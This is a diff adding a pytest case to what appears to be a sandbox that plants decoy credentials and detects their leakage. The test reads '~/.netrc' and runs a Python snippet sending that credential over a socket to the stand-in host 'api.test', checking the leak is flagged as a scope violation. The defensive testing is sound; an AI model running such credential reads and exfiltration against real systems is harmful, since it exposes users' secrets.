@@ -13,6 +13,7 @@ from pathlib import Path
 import pytest
 from scenario_hostile import GUARD
 from scenario_lab import Lab, Ran, python
+from scenario_network import digesting, options, serving
 
 pytestmark = pytest.mark.kernel("witness", "overlay", "cgroup")
 
@@ -362,3 +363,25 @@ def test_a_decoy_that_is_sent_is_known_beyond_what_is_kept_and_in_names(place: L
     assert any(where.startswith("in the name ") and where.endswith("(hex)") for where in sent)
     assert {violation["rule"] for violation in ran.report["scope"]["violations"]} >= {"leaked-canary"}
     assert all(use["process"] for use in ran.report["effects"]["credentials"] if use["run"])
+
+
+@pytest.mark.parametrize("decoys", [True, False])
+def test_a_decoy_of_an_earlier_run_that_is_sent_to_an_allowed_host(place: Lab, tmp_path: Path, *, decoys: bool) -> None:
+    """In the open: a run with decoys looks, and scope is violated; one without looks at nothing that it sends."""
+    policies = {}
+    for name, value in (("with", "true"), ("without", "false")):
+        policies[name] = tmp_path / f"{name}.toml"
+        policies[name].write_text(f'schema = 1\nname = "{name}"\n[credentials]\ncanaries = {value}\n', encoding="utf-8")
+    first = place.run("-p", str(policies["with"]), "--", "sh", "-c", "cat ~/.netrc")
+    earlier = max((place.home / "runs").iterdir()).name
+    word = first.out.split()[-1].decode()
+    source = (
+        f"{GUARD}\nimport socket\nwith socket.create_connection(('api.test', 80), 5) as out: out.sendall(b'x={word}')"
+    )
+    with serving(digesting) as api:
+        policy = str(policies["with" if decoys else "without"])
+        ran = place.run("-p", policy, *options(api_80=api), "--", *python(source))
+    assert ran.code == 0, ran.err
+    leaked = [use for use in ran.report["effects"]["credentials"] if use["run"] == earlier]
+    assert [use["where"] for use in leaked] == (["sent to api.test:80 (plain)"] if decoys else [])
+    assert ran.scope == ("violated" if decoys else "clean")
